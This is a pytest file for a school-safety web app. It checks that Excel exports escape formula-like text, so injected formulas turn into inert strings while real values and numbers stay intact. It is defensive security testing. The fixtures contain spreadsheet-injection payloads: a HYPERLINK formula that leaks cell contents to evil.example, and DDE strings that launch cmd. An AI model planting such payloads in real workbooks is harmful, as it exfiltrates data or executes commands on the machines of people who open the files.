"""Excel exports never carry a formula from typed text (issue 14 §2), title rows included, and
real values are not corrupted: numbers stay numbers, `-1层` stays `-1层`."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from safecampus.accounts.models import User
from safecampus.core.excel import cell_value, is_formula_like
from safecampus.core.models import Unit

EVIL_UNIT = '=HYPERLINK("http://evil.example/?leak="&A3,"点击")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("=1+1", True), ("=HYPERLINK(\"x\")", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True),
        ("+cmd|' /C calc'!A0", True), (DDE, True), ("-A1", True), ("+SUM(1)", True), ("-(1)", True),
        ("-1+2", True), ("+1|x", True), ("--1", True), ("-$A$1", True), ("-'x'", True),
        ("-1层", False), ("-5", False), ("-3.5%", False), ("+86 138 0013 8000", False), ("-", False),
        ("- 备注", False), ("-一层", False), ("负一层", False), ("1-2", False), ("a=b", False), ("", False),
    ],
)  # fmt: skip
def test_the_rule(text: str, formula: bool) -> None:
    assert is_formula_like(text) is formula
    assert cell_value(text) == ("'" + text if formula else text)


@pytest.mark.parametrize("value", [-1, 2.5, None, 0])
def test_non_text_values_are_untouched(value) -> None:
    assert cell_value(value) == value


def _download(resp) -> list[list]:
    assert resp.status_code == 200
    data = b"".join(resp.streaming_content) if resp.streaming else resp.content
    book = load_workbook(io.BytesIO(data))
    return [[c for c in row] for sheet in book.worksheets for row in sheet.iter_rows()]


def _no_formula(cells: list[list]) -> None:
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]
    for row in cells:
        for c in row:
            assert not (isinstance(c.value, str) and is_formula_like(c.value)), c.value


def test_risk_ledger_download(client_for, demo, settings, tmp_path) -> None:
    from safecampus.risks import services

    settings.MEDIA_ROOT = tmp_path
    safety = User.objects.get(username="demo_safety")
    school = Unit.objects.get(code="demo-c1-k1-s1")
    services.create_point(school, actor=safety, name="-1层配电房", category="other", location=DDE,
                          method="LS", factors={"likelihood": 2, "severity": 3})  # fmt: skip
    services.create_point(school, actor=safety, name="+SUM(1)", category="other", location="@x",
                          method="LS", factors={"likelihood": 1, "severity": 1})  # fmt: skip
    Unit.objects.filter(pk=school.pk).update(name=EVIL_UNIT)
    rows = _download(client_for(safety).get(f"/risks/units/{school.pk}/ledger.xlsx"))
    _no_formula(rows)
    assert rows[0][0].value == "'" + EVIL_UNIT + " Risk ledger"  # the title row
    assert [c.value for c in rows[1][:2]] == ["Unit", "'" + EVIL_UNIT]  # the preface
    data = {r[2].value: r for r in rows if isinstance(r[0].value, int)}
    assert set(data) == {"-1层配电房", "'+SUM(1)"}
    plain = data["-1层配电房"]
    assert plain[4].value == "'" + DDE and plain[1].value == "'" + EVIL_UNIT
    assert plain[0].data_type == "n" and plain[11].data_type == "n" and plain[11].value == 6  # numbers stay


def test_compliance_download(client_for, county) -> None:
    school = Unit.objects.get(code="demo-c1-k1-s1")
    Unit.objects.filter(pk=school.pk).update(name="-1层实验小学")
    User.objects.filter(username="demo_principal").update(name="@SUM(1)")
    User.objects.filter(username="demo_safety").update(name="-2+3+cmd|x")
    rows = _download(client_for(county).get("/training/compliance/export.xlsx?unit=demo-c1-k1&year=2026"))
    _no_formula(rows)
    by_user = {r[2].value: r for r in rows if len(r) > 7}
    assert by_user["demo_principal"][1].value == "'@SUM(1)"
    assert by_user["demo_safety"][1].value == "'-2+3+cmd|x"
    assert by_user["demo_principal"][0].value == "-1层实验小学"  # not corrupted
    assert by_user["demo_principal"][7].data_type == "n"  # hours stay numbers


def test_roster_workbooks() -> None:
    """Login slips and the account list (downloads of an import) through the same helper."""
    from safecampus.roster.importing import Credential
    from safecampus.roster.reports import credentials_workbook
    from safecampus.roster.slips import slips_xlsx

    creds = [Credential(kind="student", name="=cmd|' /C calc'!A0", username="s1", password="-1层",
                        class_label="@三年级1班")]  # fmt: skip
    for data in (slips_xlsx(creds, school_name="+SUM(1)"), credentials_workbook(creds, "t")):
        book = load_workbook(io.BytesIO(data))
        cells = [[c for c in row] for ws in book.worksheets for row in ws.iter_rows()]
        _no_formula(cells)
        values = {c.value for row in cells for c in row}
        assert "'=cmd|' /C calc'!A0" in values and "-1层" in values and "'@三年级1班" in values


def test_import_error_report_carries_no_formula_from_the_upload(principal, settings, tmp_path) -> None:
    """The error report hands the uploaded sheet back (to the school's managers): a formula that
    someone put into it is written back as text."""
    from safecampus.roster import batches
    from safecampus.roster.reports import error_report
    from tests.roster.factories import student_rows, xlsx_bytes

    settings.MEDIA_ROOT = tmp_path
    rows = student_rows(2, grade="三年级")
    rows[0][2] = '=HYPERLINK("http://evil.example","x")'
    data = xlsx_bytes(rows)
    assert load_workbook(io.BytesIO(data)).active["C2"].data_type == "f"  # the upload has one
    school = Unit.objects.get(code="demo-c1-k1-s1")
    batch = batches.create_batch(school, actor=principal, kind="students", data=data, file_name="a.xlsx")
    sheet = load_workbook(io.BytesIO(error_report(batch, data))).worksheets[0]
    _no_formula([list(r) for r in sheet.iter_rows()])
    assert sheet["C2"].value == '\'=HYPERLINK("http://evil.example","x")'
